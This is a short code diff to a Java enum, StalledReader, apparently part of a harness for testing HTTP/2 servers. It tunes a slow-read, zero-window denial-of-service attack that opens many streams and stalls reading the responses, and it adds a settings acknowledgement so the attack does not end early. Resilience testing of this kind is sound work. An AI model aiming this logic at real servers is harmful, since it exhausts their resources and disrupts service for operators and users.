@@ -20,7 +20,7 @@ enum StalledReader implements Attack {
   WINDOW("zero-window", Reading.EAGER, 0, 0, "");
 
   private static final int STREAMS = 100;
-  private static final int RESPONSES = 32;
+  private static final int RESPONSES = 16;
   private static final int RESPONSE_BYTES = 32 << 10;
   private static final int PAUSE_MILLIS = 20;
 
@@ -52,6 +52,7 @@ enum StalledReader implements Attack {
   public void attack(Front front) throws IOException {
     RawConnection connection = front.connect(reading, Frames.INITIAL_WINDOW_SIZE, windowBytes);
     connection.send(Frames.windowUpdate(0, Frames.LARGEST_WINDOW - 65_535));
+    connection.send(Frames.settingsAck()); // or the wait for it would end the attack
     Requests requests = Requests.to(Requests.DOWNLOAD);
     byte[] wish = Messages.wantingMany(RESPONSES, RESPONSE_BYTES);
     for (int i = 0; i < STREAMS; i++) {
